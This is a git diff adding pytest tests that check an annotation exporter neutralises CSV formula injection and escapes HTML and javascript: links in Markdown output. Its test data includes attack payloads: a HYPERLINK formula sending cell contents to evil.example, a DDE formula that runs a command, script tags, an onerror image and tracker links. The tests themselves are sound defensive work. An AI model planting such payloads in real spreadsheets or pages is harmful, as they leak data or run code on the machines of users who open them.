@@ -11,6 +11,7 @@ import pytest
 
 from reader.document import open_document
 from reader.store import ExchangeError, export_annotations, import_annotations, open_store
+from reader.store.exchange import _csv_cell
 
 
 @pytest.fixture
@@ -321,3 +322,77 @@ def test_a_time_out_of_range_in_the_store_reads_as_the_nearest_time(store, seed,
     exported = export_annotations(store, seed, "json")
     with open_store(store.path.parent.parent / "other") as other:
         assert import_annotations(other, seed, exported).added == 3
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_cells_never_run_as_spreadsheet_formulas(store, seed, span, formula):
+    record = store.open_document(seed).record
+    start, end = span(seed, "我国有7亿网民")
+    made = store.annotations.create(
+        record.id, seed.text, start, end, colour="red", note=formula, tags=(formula,)
+    )
+    exported = export_annotations(store, seed, "csv")
+    (row,) = csv.DictReader(io.StringIO(exported))
+    assert row["note"] == "'" + made.note  # the store trims the tab or CR away
+    assert row["tags"] == "'" + made.tags[0]
+    assert row["quote"] == "我国有7亿网民"
+    assert exported.startswith('"id","section","start"')  # every cell quoted
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_cell_that_starts_a_formula_starts_with_a_quote(formula):
+    assert _csv_cell(formula) == "'" + formula
+    assert _csv_cell("七亿 = 7亿") == "七亿 = 7亿"
+    assert _csv_cell(42) == 42
+
+
+def test_markdown_shows_html_and_links_in_notes_as_text(store, seed, span):
+    record = store.open_document(seed).record
+    start, end = span(seed, "我国有7亿网民")
+    note = (
+        "<script>alert(1)</script>\n"
+        "<img src=http://tracker.example/p.png>\n"
+        "[click](javascript:alert(1)) ![x](http://tracker.example/x.png)\n"
+        "[ref]: javascript:alert(1)\n"
+        "> not a quote & not &lt;an entity&gt; \\[already escaped]"
+    )
+    store.annotations.create(
+        record.id, seed.text, start, end, colour="red", note=note, tags=("<b>标签</b>",)
+    )
+    markdown = export_annotations(store, seed, "md")
+    assert (
+        "&lt;script&gt;alert(1)&lt;/script&gt;\n"
+        "&lt;img src=http://tracker.example/p.png&gt;\n"
+        "\\[click\\](javascript:alert(1)) !\\[x\\](http://tracker.example/x.png)\n"
+        "\\[ref\\]: javascript:alert(1)\n"
+        "&gt; not a quote &amp; not &amp;lt;an entity&amp;gt; \\\\\\[already escaped\\]\n"
+    ) in markdown
+    assert "Tags: &lt;b&gt;标签&lt;/b&gt;" in markdown
+    assert "<" not in markdown
+
+
+def test_markdown_shows_markup_in_headings_and_quotes_as_text(store, tmp_path):
+    path = tmp_path / "page.txt"
+    path.write_text(
+        "<img src=x onerror=alert(1)>\n\n正文 <b>粗体</b> [链接](javascript:x)。\n",
+        encoding="utf-8",
+    )
+    document = open_document(path)
+    record = store.open_document(document).record
+    start = document.text.index("<b>")
+    end = len(document.text) - 1
+    store.annotations.create(record.id, document.text, start, end, colour="red")
+    markdown = export_annotations(store, document, "md")
+    assert markdown.startswith("# &lt;img src=x onerror=alert(1)&gt;\n")
+    assert "> &lt;b&gt;粗体&lt;/b&gt; \\[链接\\](javascript:x)\n" in markdown
